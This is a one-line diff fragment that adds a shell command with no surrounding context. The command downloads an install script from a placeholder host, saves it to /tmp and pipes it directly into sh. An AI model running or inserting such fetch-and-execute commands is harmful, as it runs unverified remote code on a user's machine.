@@ -1,0 +1,1 @@
+wget -qO- https://x/install.sh | tee /tmp/i.sh | sh
